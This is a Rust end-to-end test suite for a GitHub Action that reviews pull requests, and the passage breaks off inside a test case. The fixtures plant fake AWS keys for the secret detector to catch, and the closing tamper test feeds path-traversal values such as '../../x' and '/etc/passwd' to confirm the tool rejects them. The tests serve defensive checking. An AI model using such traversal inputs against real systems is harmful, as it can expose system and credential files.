//! End-to-end tests of the `tollgate-action` binary: real temporary git repositories, event
//! payload fixtures (tests/fixtures/github/), and a loopback server speaking GitHub's REST API
//! that records what the action posts.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::OnceLock;

use serde_json::Value;
use tempfile::TempDir;

use crate::fake_github::{BOT, FakeGitHub, Fault, Recorded, TOKEN};
use crate::util::{TestRepo, fixture, workspace_bin};

pub(crate) fn action_bin() -> &'static Path {
    static BIN: OnceLock<PathBuf> = OnceLock::new();
    BIN.get_or_init(|| workspace_bin("tollgate-action"))
}

const REPOSITORY: &str = "octo/repo";
/// The changed file and the lines of its only hunk (line 20 changed, three lines of context).
const CHANGED_FILE: &str = "src/app/config.py";
const HUNK_LINES: std::ops::RangeInclusive<u32> = 17..=23;
/// A hotspot file the pull request deletes: its finding has no line in the diff's new side.
const DELETED_HOTSPOT: &str = "src/auth/session.py";

/// A repository whose `feature` branch adds an AWS key on line 20 of a 40-line file (a
/// CRITICAL finding: the gate fails) and deletes a hotspot file.
struct PrRepo {
    repo: TestRepo,
    base: String,
    head: String,
}

fn pr_repo() -> PrRepo {
    let repo = TestRepo::new();
    let lines: Vec<String> = (1..=40).map(|n| format!("SETTING_{n} = {n}")).collect();
    repo.write(CHANGED_FILE, &(lines.join("\n") + "\n"));
    repo.write(DELETED_HOTSPOT, "def session():\n    return None\n");
    let base = repo.commit("base");
    repo.branch("feature");
    let mut changed = lines.clone();
    changed[19] = "AWS_ACCESS_KEY_ID = \"AKIAQWERTYUIOPASDFGH\"".to_string();
    repo.write(CHANGED_FILE, &(changed.join("\n") + "\n"));
    std::fs::remove_file(repo.path().join(DELETED_HOTSPOT)).unwrap();
    let head = repo.commit("feature");
    PrRepo { repo, base, head }
}

/// One run of the action and the runner files it wrote.
struct ActionRun {
    code: i32,
    stdout: String,
    stderr: String,
    outputs: String,
    summary: String,
    results: TempDir,
}

impl ActionRun {
    fn assert_code(&self, expected: i32) -> &ActionRun {
        assert_eq!(
            self.code, expected,
            "exit code\nstdout:\n{}\nstderr:\n{}",
            self.stdout, self.stderr
        );
        self
    }
}

/// Runs the action on `event_name` with the fixture `payload` (shas filled in), posting to
/// `server` when given. The environment is the runner's, rebuilt from scratch.
fn run_action(
    pr: &PrRepo,
    event_name: &str,
    payload: &str,
    server: Option<&FakeGitHub>,
    extra_env: &[(&str, &str)],
) -> ActionRun {
    let results = tempfile::tempdir().unwrap();
    let template = std::fs::read_to_string(fixture(&format!("github/{payload}"))).unwrap();
    let event = template
        .replace("__BASE_SHA__", &pr.base)
        .replace("__HEAD_SHA__", &pr.head);
    let event_path = results.path().join("event.json");
    std::fs::write(&event_path, event).unwrap();
    let outputs_path = results.path().join("github_output");
    let summary_path = results.path().join("step_summary.md");

    let mut command = Command::new(action_bin());
    for (key, _) in std::env::vars() {
        if ["GITHUB_", "INPUT_", "TOLLGATE_", "CE_REVIEW_", "RUNNER_"]
            .iter()
            .any(|prefix| key.starts_with(prefix))
        {
            command.env_remove(key);
        }
    }
    command
        .env("GITHUB_WORKSPACE", pr.repo.path())
        .env("GITHUB_EVENT_NAME", event_name)
        .env("GITHUB_EVENT_PATH", &event_path)
        .env("GITHUB_REPOSITORY", REPOSITORY)
        .env("GITHUB_SHA", &pr.head)
        .env("GITHUB_SERVER_URL", "https://github.com")
        .env(
            "GITHUB_API_URL",
            server.map_or("http://127.0.0.1:9", |s| s.url()),
        )
        .env("GITHUB_OUTPUT", &outputs_path)
        .env("GITHUB_STEP_SUMMARY", &summary_path)
        .env("INPUT_GITHUB_TOKEN", TOKEN)
        .env("INPUT_OUTPUT_DIR", results.path().join("out"))
        // Composite actions pass unset inputs as empty variables.
        .env("INPUT_CONFIDENCE_THRESHOLD", "")
        .env("INPUT_FAIL_ON_SEVERITY", "")
        .env("TOLLGATE_RETRY_BASE_MS", "20")
        .env("NO_COLOR", "1")
        .stdin(Stdio::null());
    for (key, value) in extra_env {
        command.env(key, value);
    }
    let output = command.output().expect("tollgate-action runs");
    let read = |path: &Path| std::fs::read_to_string(path).unwrap_or_default();
    ActionRun {
        code: output.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
        outputs: read(&outputs_path),
        summary: read(&summary_path),
        results,
    }
}

/// The fake GitHub, started after the binary under test is built (its lifetime clock starts
/// with it; a cold build takes minutes).
fn started_server() -> FakeGitHub {
    action_bin();
    FakeGitHub::start()
}

fn server_for_pr() -> FakeGitHub {
    let server = started_server();
    server.state().diff_lines = Some(BTreeMap::from([(
        CHANGED_FILE.to_string(),
        HUNK_LINES.collect(),
    )]));
    server
}

fn requests(server: &FakeGitHub) -> Vec<Recorded> {
    server.state().requests.clone()
}

fn count(requests: &[Recorded], method: &str, path: &str) -> usize {
    requests.iter().filter(|r| r.is(method, path)).count()
}

const ISSUE_COMMENTS: &str = "/repos/octo/repo/issues/42/comments";
const REVIEWS: &str = "/repos/octo/repo/pulls/42/reviews";
const CHECK_RUNS: &str = "/repos/octo/repo/check-runs";

#[test]
fn pull_request_posts_summary_review_and_check_run_then_updates_in_place() {
    let pr = pr_repo();
    let server = server_for_pr();
    // Someone else's comment that quotes our marker, and enough comments to need pages.
    {
        let mut state = server.state();
        state.add_issue_comment("mallory", "<!-- tollgate:summary:v1 --> fake");
        state.add_issue_comment("reviewer", "LGTM?");
        state.add_issue_comment("reviewer", "one more");
    }

    let first = run_action(&pr, "pull_request", "pull_request.json", Some(&server), &[]);
    first.assert_code(1);
    let seen = requests(&server);
    for request in &seen {
        assert_eq!(
            request.authorization.as_deref(),
            Some(format!("Bearer {TOKEN}").as_str())
        );
    }
    // The comment list was read to its last page before a new summary was posted.
    assert!(
        seen.iter()
            .any(|r| r.is("GET", ISSUE_COMMENTS) && r.target.contains("page=2")),
        "{seen:#?}"
    );
    assert_eq!(count(&seen, "POST", ISSUE_COMMENTS), 1);
    let summary = server
        .state()
        .issue_comments
        .iter()
        .find(|c| c["user"]["login"] == BOT)
        .cloned()
        .expect("a summary comment by the bot");
    let body = summary["body"].as_str().unwrap();
    assert!(body.starts_with("<!-- tollgate:summary:v1 -->\n## ❌ Tollgate review failed"));
    assert!(
        !body.contains("AKIAQWERTYUIOPASDFGH"),
        "secrets never leave"
    );

    // One review, pinned to the head commit, with comments only on the hunk's lines.
    assert_eq!(count(&seen, "POST", REVIEWS), 1);
    let review = &seen.iter().find(|r| r.is("POST", REVIEWS)).unwrap().body;
    assert_eq!(review["commit_id"], pr.head.as_str());
    assert_eq!(review["event"], "COMMENT");
    assert!(
        review["body"]
            .as_str()
            .unwrap()
            .starts_with("<!-- tollgate:review:v1 -->")
    );
    let comments = review["comments"].as_array().unwrap();
    assert!(!comments.is_empty(), "{review:#}");
    for comment in comments {
        assert_eq!(comment["path"], CHANGED_FILE, "{comment:#}");
        assert_eq!(comment["side"], "RIGHT");
        let line = comment["line"].as_u64().unwrap() as u32;
        assert!(HUNK_LINES.contains(&line), "{comment:#}");
        assert!(
            comment["body"]
                .as_str()
                .unwrap()
                .contains("<!-- tollgate:finding:v1 ")
        );
    }
    assert!(
        comments
            .iter()
            .any(|c| c["line"] == 20 && c["body"].as_str().unwrap().contains("`TG008`")),
        "the secret is commented on its line: {review:#}"
    );

    // The check run carries every finding, the deleted hotspot's too.
    assert_eq!(count(&seen, "POST", CHECK_RUNS), 1);
    let check = server.state().check_runs[0].clone();
    assert_eq!(check["head_sha"], pr.head.as_str());
    assert_eq!(check["conclusion"], "failure");
    assert_eq!(check["status"], "completed");
    let annotations = check["output"]["annotations"].as_array().unwrap();
    assert!(
        annotations
            .iter()
            .any(|a| a["path"] == DELETED_HOTSPOT && a["annotation_level"] == "notice"),
        "{annotations:#?}"
    );
    assert!(
        annotations
            .iter()
            .any(|a| a["path"] == CHANGED_FILE && a["annotation_level"] == "failure")
    );
    assert!(annotations.len() > comments.len());

    // Runner files: outputs, the job summary, SARIF.
    assert!(
        first.outputs.contains("should-fail=true\n"),
        "{}",
        first.outputs
    );
    let n_findings = annotations.len();
    assert!(
        first.outputs.contains(&format!("findings={n_findings}\n")),
        "{}",
        first.outputs
    );
    let sarif_path = first.results.path().join("out/tollgate.sarif");
    assert!(
        first
            .outputs
            .contains(&format!("sarif-path={}\n", sarif_path.display()))
    );
    let sarif: Value =
        serde_json::from_str(&std::fs::read_to_string(&sarif_path).unwrap()).unwrap();
    let categories: Vec<&str> = sarif["runs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|run| run["automationDetails"]["id"].as_str().unwrap())
        .collect();
    assert!(
        categories.contains(&"tollgate/preflight/"),
        "{categories:?}"
    );
    assert!(first.summary.starts_with("<!-- tollgate:summary:v1 -->"));
    assert!(
        !first.stderr.contains(TOKEN) && !first.stdout.contains(TOKEN),
        "the token is never printed"
    );

    // Second run on the same head: the summary is edited in place, the inline comments stand,
    // nothing is deleted.
    let comment_id = summary["id"].as_u64().unwrap();
    let n_before = server.state().requests.len();
    let second = run_action(&pr, "pull_request", "pull_request.json", Some(&server), &[]);
    second.assert_code(1);
    let again: Vec<Recorded> = requests(&server).split_off(n_before);
    assert_eq!(count(&again, "POST", ISSUE_COMMENTS), 0, "{again:#?}");
    assert_eq!(
        count(
            &again,
            "PATCH",
            &format!("/repos/octo/repo/issues/comments/{comment_id}")
        ),
        1
    );
    assert_eq!(count(&again, "POST", REVIEWS), 0, "no duplicate comments");
    assert!(!again.iter().any(|r| r.method == "DELETE"));
    let n_bot_summaries = server
        .state()
        .issue_comments
        .iter()
        .filter(|c| c["user"]["login"] == BOT)
        .count();
    assert_eq!(n_bot_summaries, 1);
    assert_eq!(
        server.state().issue_comments[0]["body"],
        "<!-- tollgate:summary:v1 --> fake",
        "other people's comments are never touched"
    );
}

#[test]
fn stale_inline_comments_are_removed_when_findings_go_away() {
    let pr = pr_repo();
    let server = server_for_pr();
    run_action(&pr, "pull_request", "pull_request.json", Some(&server), &[]).assert_code(1);
    let n_comments = server.state().review_comments.len();
    assert!(n_comments > 0);

    // The author removes the secret: its comment is stale and goes, the gate passes.
    let clean: Vec<String> = (1..=40)
        .map(|n| {
            if n == 20 {
                "SETTING_20 = load_from_env()".to_string()
            } else {
                format!("SETTING_{n} = {n}")
            }
        })
        .collect();
    pr.repo.write(CHANGED_FILE, &(clean.join("\n") + "\n"));
    let head = pr.repo.commit("remove the key");
    let fixed = PrRepo { head, ..pr };
    let run = run_action(
        &fixed,
        "pull_request",
        "pull_request.json",
        Some(&server),
        &[],
    );
    run.assert_code(0);
    let state = server.state();
    let deleted = state
        .requests
        .iter()
        .filter(|r| r.method == "DELETE")
        .count();
    assert!(deleted >= 1, "{:#?}", state.requests);
    assert!(
        !state
            .review_comments
            .iter()
            .any(|c| c["body"].as_str().unwrap().contains("`TG008`")),
        "{:#?}",
        state.review_comments
    );
    assert_eq!(state.check_runs.last().unwrap()["conclusion"], "success");
    assert!(run.outputs.contains("should-fail=false\n"));
}

/// A new push never re-posts, edits or deletes an inline comment whose finding is still there:
/// a thread the author resolved stays resolved (GitHub reopens nothing it is not asked to),
/// and only the new finding gets a comment.
#[test]
fn a_new_push_keeps_posted_comments_and_resolved_threads_as_they_are() {
    let pr = pr_repo();
    let server = server_for_pr();
    run_action(&pr, "pull_request", "pull_request.json", Some(&server), &[]).assert_code(1);
    let first: Vec<Value> = server.state().review_comments.clone();
    let secret_comment = first
        .iter()
        .find(|c| c["body"].as_str().unwrap().contains("`TG008`"))
        .expect("the secret has an inline comment")
        .clone();
    let secret_id = secret_comment["id"].as_u64().unwrap();

    // Push 2 keeps line 20 and adds a second key on line 30, in a new hunk.
    let mut lines: Vec<String> = (1..=40).map(|n| format!("SETTING_{n} = {n}")).collect();
    lines[19] = "AWS_ACCESS_KEY_ID = \"AKIAQWERTYUIOPASDFGH\"".to_string();
    lines[29] = "BACKUP_KEY_ID = \"AKIAZXCVBNMASDFGHJKL\"".to_string();
    pr.repo.write(CHANGED_FILE, &(lines.join("\n") + "\n"));
    let head = pr.repo.commit("push 2");
    let pushed = PrRepo { head, ..pr };
    server.state().diff_lines = Some(BTreeMap::from([(
        CHANGED_FILE.to_string(),
        HUNK_LINES.chain(27..=33).collect(),
    )]));
    let n_before = server.state().requests.len();
    run_action(
        &pushed,
        "pull_request",
        "pull_request.json",
        Some(&server),
        &[],
    )
    .assert_code(1);
    let again: Vec<Recorded> = requests(&server).split_off(n_before);

    let comment_path = format!("/repos/octo/repo/pulls/comments/{secret_id}");
    assert!(
        !again.iter().any(|r| r.path() == comment_path),
        "the first comment is neither edited nor deleted: {again:#?}"
    );
    assert!(!again.iter().any(|r| r.method == "DELETE"), "{again:#?}");
    let posted: Vec<&Value> = again
        .iter()
        .filter(|r| r.is("POST", REVIEWS))
        .flat_map(|r| r.body["comments"].as_array().unwrap())
        .collect();
    assert_eq!(posted.len(), 1, "only the new finding: {posted:#?}");
    assert_eq!(posted[0]["line"], 30);
    let state = server.state();
    let secret_comments = state
        .review_comments
        .iter()
        .filter(|c| c["body"].as_str().unwrap().contains("`TG008`"))
        .count();
    assert_eq!(secret_comments, 2, "{:#?}", state.review_comments);
    assert!(state.review_comments.contains(&secret_comment));
}

#[test]
fn annotations_are_sent_in_batches_of_at_most_fifty() {
    let repo = TestRepo::new();
    repo.write(
        ".review-invariants.yml",
        "rules:\n  - id: no-fixme\n    rule: No FIXME\n    paths: [\"**/*.py\"]\n    severity: CRITICAL\n    category: maintainability\n    action: deny\n    deny: { regex: { pattern: FIXME } }\n",
    );
    repo.write("src/app/todo.py", "import os\n");
    let base = repo.commit("base");
    repo.branch("feature");
    // 120 FIXMEs, one a line: 120 findings (max-findings raised so none is truncated).
    let body: String = (0..120)
        .map(|n| format!("x_{n} = 1  # FIXME {n}\n"))
        .collect();
    repo.write("src/app/todo.py", &format!("import os\n{body}"));
    let head = repo.commit("fixmes");
    let pr = PrRepo { repo, base, head };
    let server = started_server();
    let run = run_action(
        &pr,
        "push",
        "push.json",
        Some(&server),
        &[("INPUT_MAX_FINDINGS", "500")],
    );
    run.assert_code(1);
    let seen = requests(&server);
    // A push has no pull request: only the check run is posted.
    assert!(
        seen.iter().all(|r| r.path().starts_with(CHECK_RUNS)),
        "{seen:#?}"
    );
    let sizes: Vec<usize> = seen
        .iter()
        .map(|r| r.body["output"]["annotations"].as_array().unwrap().len())
        .collect();
    assert!(sizes.iter().all(|&n| n <= 50), "{sizes:?}");
    assert!(sizes.len() >= 3, "{sizes:?}");
    assert_eq!(seen[0].method, "POST");
    assert!(seen[1..].iter().all(|r| r.method == "PATCH"));
    let total: usize = sizes.iter().sum();
    let run_annotations = server.state().check_runs[0]["output"]["annotations"]
        .as_array()
        .unwrap()
        .len();
    assert_eq!(total, run_annotations, "updates append");
    assert!(total >= 120, "{total}");
}

#[test]
fn fork_pull_requests_post_nothing_and_print_workflow_commands() {
    let pr = pr_repo();
    let server = server_for_pr();
    let run = run_action(
        &pr,
        "pull_request",
        "pull_request_from_fork.json",
        Some(&server),
        &[],
    );
    run.assert_code(1);
    // Reads (the pull request's dismissals) only: nothing is posted.
    assert!(
        server
            .state()
            .requests
            .iter()
            .all(|r| r.method == "GET" || (r.method == "POST" && r.path() == "/graphql")),
        "{:#?}",
        server.state().requests
    );
    assert!(
        run.stdout
            .lines()
            .any(|line| line.starts_with(&format!("::error file={CHANGED_FILE},line=20,"))),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains("::stop-commands::tollgate-"),
        "{}",
        run.stdout
    );
    assert!(run.stderr.contains("read-only token"), "{}", run.stderr);
    // SARIF and the job summary are still written.
    assert!(run.results.path().join("out/tollgate.sarif").is_file());
    assert!(run.summary.starts_with("<!-- tollgate:summary:v1 -->"));
}

#[test]
fn retries_502_and_429_honouring_retry_after() {
    let pr = pr_repo();
    let server = server_for_pr();
    server.state().faults = vec![
        Fault {
            method: "GET",
            path: ISSUE_COMMENTS.into(),
            status: 502,
            headers: Vec::new(),
        },
        Fault {
            method: "POST",
            path: CHECK_RUNS.into(),
            status: 429,
            headers: vec![("Retry-After", "1".into())],
        },
        Fault {
            method: "POST",
            path: REVIEWS.into(),
            status: 403,
            headers: vec![
                ("x-ratelimit-remaining", "0".into()),
                ("x-ratelimit-reset", "0".into()),
            ],
        },
    ];
    let started = std::time::Instant::now();
    let run = run_action(&pr, "pull_request", "pull_request.json", Some(&server), &[]);
    run.assert_code(1);
    let seen = requests(&server);
    assert_eq!(count(&seen, "POST", CHECK_RUNS), 2, "{seen:#?}");
    assert_eq!(count(&seen, "POST", REVIEWS), 2);
    assert_eq!(
        count(&seen, "GET", ISSUE_COMMENTS),
        2,
        "the 502 was retried"
    );
    assert!(
        started.elapsed() >= std::time::Duration::from_secs(1),
        "Retry-After: 1 was waited out"
    );
    let state = server.state();
    assert_eq!(state.check_runs.len(), 1);
    assert_eq!(state.reviews.len(), 1);
    assert!(state.faults.is_empty());
    assert!(!run.stdout.contains("could not post"), "{}", run.stdout);
}

#[test]
fn the_exit_code_follows_the_gate_when_posting_fails() {
    let pr = pr_repo();
    let server = server_for_pr();
    {
        let mut state = server.state();
        for _ in 0..4 {
            state.faults.push(Fault {
                method: "POST",
                path: CHECK_RUNS.into(),
                status: 503,
                headers: Vec::new(),
            });
        }
        state.read_only = true;
    }
    let failing = run_action(&pr, "pull_request", "pull_request.json", Some(&server), &[]);
    failing.assert_code(1);
    assert!(
        failing
            .stdout
            .contains("::warning title=Tollgate could not post::"),
        "{}",
        failing.stdout
    );
    // Nothing was posted, so the findings come out as workflow commands instead.
    assert!(
        failing
            .stdout
            .contains(&format!("::error file={CHANGED_FILE},line=20,"))
    );
    assert_eq!(
        count(&requests(&server), "POST", CHECK_RUNS),
        4,
        "four tries"
    );

    // A passing gate stays a pass with no API at all (nothing listens on this port).
    let clean = TestRepo::new();
    clean.write("README.md", "# hi\n");
    let base = clean.commit("base");
    clean.write("README.md", "# hello\n");
    let head = clean.commit("docs");
    let passing = run_action(
        &PrRepo {
            repo: clean,
            base,
            head,
        },
        "pull_request",
        "pull_request.json",
        None,
        &[],
    );
    passing.assert_code(0);
    assert!(
        passing.stdout.contains("could not post"),
        "{}",
        passing.stdout
    );
}

#[test]
fn config_comes_from_the_base_commit_unless_asked_otherwise() {
    // The base says HIGH fails the gate; the pull request relaxes it to CRITICAL and adds a
    // HIGH-only problem. With the base's gate it fails; with the head's it would pass.
    let repo = TestRepo::new();
    repo.write("tollgate.toml", "[review]\nfail_on_severity = \"HIGH\"\n");
    repo.write(
        ".review-invariants.yml",
        "rules:\n  - id: no-todo\n    rule: No TODO in code\n    paths: [\"**/*.py\"]\n    severity: HIGH\n    category: maintainability\n    action: deny\n    deny: { regex: { pattern: TODO } }\n",
    );
    repo.write("app.py", "x = 1\n");
    let base = repo.commit("base");
    repo.branch("feature");
    repo.write(
        "tollgate.toml",
        "[review]\nfail_on_severity = \"CRITICAL\"\n",
    );
    repo.write(".review-invariants.yml", "rules: []\n");
    repo.write("app.py", "x = 1\n# TODO remove\n");
    let head = repo.commit("relax the gate");
    let pr = PrRepo { repo, base, head };

    let from_base = run_action(
        &pr,
        "push",
        "push.json",
        None,
        &[("INPUT_CHECK_RUN", "false")],
    );
    from_base.assert_code(1);
    assert!(from_base.outputs.contains("should-fail=true\n"));
    let from_head = run_action(
        &pr,
        "push",
        "push.json",
        None,
        &[("INPUT_CONFIG_FROM", "head"), ("INPUT_CHECK_RUN", "false")],
    );
    from_head.assert_code(0);
}

#[test]
fn workflow_dispatch_reviews_the_given_range() {
    let pr = pr_repo();
    let run = run_action(
        &pr,
        "workflow_dispatch",
        "workflow_dispatch.json",
        None,
        &[("INPUT_CHECK_RUN", "false")],
    );
    run.assert_code(1);
    let json: Value = serde_json::from_str(
        &std::fs::read_to_string(run.results.path().join("out/tollgate.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(json["metadata"]["head_sha"], pr.head.as_str());
    assert_eq!(json["metadata"]["base_sha"], pr.base.as_str());
}

#[test]
fn a_shallow_checkout_says_to_fetch_the_full_history() {
    let pr = pr_repo();
    let clone = tempfile::tempdir().unwrap();
    let status = Command::new("git")
        .args(["clone", "--quiet", "--depth", "1", "--branch", "feature"])
        .arg(format!("file://{}", pr.repo.path().display()))
        .arg(clone.path())
        .status()
        .expect("git runs");
    assert!(status.success());
    let shallow = PrRepo {
        repo: TestRepo::open(clone),
        base: pr.base.clone(),
        head: pr.head.clone(),
    };
    let run = run_action(&shallow, "pull_request", "pull_request.json", None, &[]);
    run.assert_code(2);
    assert!(run.stderr.contains("fetch-depth: 0"), "{}", run.stderr);
    assert!(
        run.stdout
            .starts_with("::error title=Tollgate could not run::"),
        "{}",
        run.stdout
    );
}

#[test]
fn action_yml_passes_every_input_to_the_binary() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../action/action.yml");
    let action: serde_yaml_ng::Value =
        serde_yaml_ng::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    assert_eq!(action["runs"]["using"], "composite");
    let steps = action["runs"]["steps"].as_sequence().unwrap();
    let review = steps.iter().find(|step| step["id"] == "review").unwrap();
    let env = review["env"].as_mapping().unwrap();
    let help = Command::new(action_bin()).arg("--help").output().unwrap();
    let help = String::from_utf8_lossy(&help.stdout);
    let inputs = action["inputs"].as_mapping().unwrap();
    assert!(inputs.len() >= 19);
    for (name, _) in inputs {
        let name = name.as_str().unwrap();
        if name == "version" {
            continue; // used by the install step
        }
        let variable = format!("INPUT_{}", name.to_uppercase().replace('-', "_"));
        assert_eq!(
            env.get(variable.as_str()).and_then(|v| v.as_str()),
            Some(format!("${{{{ inputs.{name} }}}}").as_str()),
            "{variable}"
        );
        assert!(
            help.contains(&format!("env: {variable}")),
            "{variable} not read:\n{help}"
        );
    }
    for output in ["should-fail", "findings", "sarif-path"] {
        assert!(
            action["outputs"][output]["value"]
                .as_str()
                .unwrap()
                .contains(output)
        );
    }
}

#[test]
fn a_review_github_refuses_to_anchor_is_posted_with_the_comments_in_its_body() {
    let pr = pr_repo();
    // GitHub's view of the diff lacks line 20 (its base moved on, say): the review is refused.
    let server = started_server();
    server.state().diff_lines = Some(BTreeMap::from([(CHANGED_FILE.to_string(), vec![1])]));
    let run = run_action(&pr, "pull_request", "pull_request.json", Some(&server), &[]);
    run.assert_code(1);
    let seen = requests(&server);
    let reviews: Vec<&Recorded> = seen.iter().filter(|r| r.is("POST", REVIEWS)).collect();
    assert_eq!(reviews.len(), 2, "{seen:#?}");
    assert!(!reviews[0].body["comments"].as_array().unwrap().is_empty());
    assert!(reviews[1].body.get("comments").is_none());
    let body = reviews[1].body["body"].as_str().unwrap();
    assert!(
        body.contains("GitHub did not accept these comments"),
        "{body}"
    );
    assert!(body.contains("`src/app/config.py` line 20"), "{body}");
    assert_eq!(server.state().reviews.len(), 1);
    assert!(!run.stdout.contains("could not post"), "{}", run.stdout);
}

/// Stage 2 of the fork pattern: `INPUT_MODE=post` in a `workflow_run` job whose workspace holds
/// only the downloaded artifact (in `tollgate-results/`), never a checkout.
fn run_post(artifact: &Path, head_sha: &str, server: &FakeGitHub) -> ActionRun {
    let results = tempfile::tempdir().unwrap();
    let workspace = results.path().join("workspace");
    let downloaded = workspace.join("tollgate-results");
    std::fs::create_dir_all(&downloaded).unwrap();
    for entry in std::fs::read_dir(artifact).unwrap() {
        let entry = entry.unwrap();
        std::fs::copy(entry.path(), downloaded.join(entry.file_name())).unwrap();
    }
    let template = std::fs::read_to_string(fixture("github/workflow_run.json")).unwrap();
    let event_path = results.path().join("event.json");
    std::fs::write(&event_path, template.replace("__HEAD_SHA__", head_sha)).unwrap();
    let outputs_path = results.path().join("github_output");
    let summary_path = results.path().join("step_summary.md");
    let mut command = Command::new(action_bin());
    for (key, _) in std::env::vars() {
        if ["GITHUB_", "INPUT_", "TOLLGATE_", "CE_REVIEW_", "RUNNER_"]
            .iter()
            .any(|prefix| key.starts_with(prefix))
        {
            command.env_remove(key);
        }
    }
    let output = command
        .env("INPUT_MODE", "post")
        .env("GITHUB_WORKSPACE", &workspace)
        .env("GITHUB_EVENT_NAME", "workflow_run")
        .env("GITHUB_EVENT_PATH", &event_path)
        .env("GITHUB_REPOSITORY", REPOSITORY)
        .env("GITHUB_SERVER_URL", "https://github.com")
        .env("GITHUB_API_URL", server.url())
        .env("GITHUB_OUTPUT", &outputs_path)
        .env("GITHUB_STEP_SUMMARY", &summary_path)
        .env("INPUT_GITHUB_TOKEN", TOKEN)
        .env("INPUT_HEAD", "")
        .env("TOLLGATE_RETRY_BASE_MS", "20")
        .stdin(Stdio::null())
        .output()
        .expect("tollgate-action runs");
    let read = |path: &Path| std::fs::read_to_string(path).unwrap_or_default();
    ActionRun {
        code: output.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
        outputs: read(&outputs_path),
        summary: read(&summary_path),
        results,
    }
}

/// Stage 1 on a fork's pull request: the artifact directory it leaves for stage 2.
fn stage_one(pr: &PrRepo) -> ActionRun {
    let server = server_for_pr();
    let run = run_action(
        pr,
        "pull_request",
        "pull_request_from_fork.json",
        Some(&server),
        &[],
    );
    run.assert_code(1);
    // It reads the pull request's dismissals with its read-only token, and writes nothing.
    assert!(
        server
            .state()
            .requests
            .iter()
            .all(|r| r.method == "GET" || (r.method == "POST" && r.path() == "/graphql")),
        "stage 1 posts nothing: {:#?}",
        server.state().requests
    );
    run
}

#[test]
fn fork_stage_two_posts_the_stage_one_artifact_without_the_checkout() {
    let pr = pr_repo();
    let stage1 = stage_one(&pr);
    let artifact = stage1.results.path().join("out");
    let info: Value = serde_json::from_str(
        &std::fs::read_to_string(artifact.join("tollgate-publish.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(info["schema"], "tollgate-publish/v1");
    assert_eq!(info["repository"], REPOSITORY);
    assert_eq!(info["pull_request"], 42);
    assert_eq!(info["head_sha"], pr.head.as_str());
    assert_eq!(
        info["hunks"],
        serde_json::json!({ CHANGED_FILE: [[17, 24]] }),
        "half-open new-side ranges; the deleted file has none"
    );
    assert!(artifact.join("tollgate.json").is_file());

    let server = server_for_pr();
    server.state().pulls.insert(42, pr.head.clone());
    let run = run_post(&artifact, &pr.head, &server);
    // The gate failed in stage 1; stage 2 only posts.
    run.assert_code(0);
    let seen = requests(&server);
    assert!(
        seen.iter()
            .any(|r| r.is("GET", "/repos/octo/repo/pulls/42"))
    );
    assert_eq!(count(&seen, "POST", ISSUE_COMMENTS), 1, "{seen:#?}");
    let summary = &seen
        .iter()
        .find(|r| r.is("POST", ISSUE_COMMENTS))
        .unwrap()
        .body;
    assert!(
        summary["body"]
            .as_str()
            .unwrap()
            .starts_with("<!-- tollgate:summary:v1 -->\n## ❌ Tollgate review failed")
    );
    assert_eq!(count(&seen, "POST", REVIEWS), 1);
    let review = &seen.iter().find(|r| r.is("POST", REVIEWS)).unwrap().body;
    assert_eq!(review["commit_id"], pr.head.as_str());
    let comments = review["comments"].as_array().unwrap();
    assert!(
        comments.iter().any(|c| c["line"] == 20),
        "the secret is commented on its line: {review:#}"
    );
    for comment in comments {
        assert_eq!(comment["path"], CHANGED_FILE, "{comment:#}");
        let line = comment["line"].as_u64().unwrap() as u32;
        assert!(HUNK_LINES.contains(&line), "{comment:#}");
    }
    assert_eq!(count(&seen, "POST", CHECK_RUNS), 1);
    let check = server.state().check_runs[0].clone();
    assert_eq!(check["head_sha"], pr.head.as_str());
    assert_eq!(check["conclusion"], "failure");
    assert!(
        check["output"]["annotations"]
            .as_array()
            .unwrap()
            .iter()
            .any(|a| a["path"] == DELETED_HOTSPOT)
    );
    assert!(
        run.outputs.contains("should-fail=true\n"),
        "{}",
        run.outputs
    );
    assert!(run.outputs.contains("pull-request=42\n"), "{}", run.outputs);
    assert!(run.summary.starts_with("<!-- tollgate:summary:v1 -->"));
    assert!(!run.stdout.contains("could not post"), "{}", run.stdout);
    assert!(!run.stdout.contains(TOKEN) && !run.stderr.contains(TOKEN));

    // The pull request moved on (or the artifact names someone else's): only the check run,
    // pinned to the commit GitHub named, is posted.
    let moved = server_for_pr();
    moved.state().pulls.insert(42, "f".repeat(40));
    let run = run_post(&artifact, &pr.head, &moved);
    run.assert_code(0);
    let seen = requests(&moved);
    assert_eq!(count(&seen, "POST", ISSUE_COMMENTS), 0, "{seen:#?}");
    assert_eq!(count(&seen, "POST", REVIEWS), 0);
    assert_eq!(count(&seen, "POST", CHECK_RUNS), 1);
    assert!(run.outputs.contains("pull-request=\n"), "{}", run.outputs);
    assert!(
        run.stdout
            .contains("::warning title=Tollgate could not post::pull request #42")
    );
}

#[test]
fn fork_stage_two_refuses_a_tampered_artifact_before_any_call() {
    let pr = pr_repo();
    let stage1 = stage_one(&pr);
    let artifact = stage1.results.path().join("out");
    let read = |name: &str| -> Value {
        serde_json::from_str(&std::fs::read_to_string(artifact.join(name)).unwrap()).unwrap()
    };
    let (info, result) = (read("tollgate-publish.json"), read("tollgate.json"));
    let other_sha = "e".repeat(40);

    /// Edits the two JSON files, or (given the artifact directory) the files themselves.
    type Tamper = Box<dyn Fn(&mut Value, &mut Value, Option<&Path>)>;
    let cases: Vec<(&str, &str, Tamper)> = vec![
        (
            "a finding outside the repository",
            "`../../x` is not a relative path inside the repository",
            Box::new(|_, result, _| result["findings"][0]["location"]["file"] = "../../x".into()),
        ),
        (
            "an absolute finding path",
            "`/etc/passwd` is not a relative path",
            Box::new(|_, result, _| {
                result["findings"][0]["location"]["file"] = "/etc/passwd".into()
            }),
        ),
        (
            "absurd line numbers",
            "lines 4000000000-4000000000 are not within",
            Box::new(|_, result, _| {
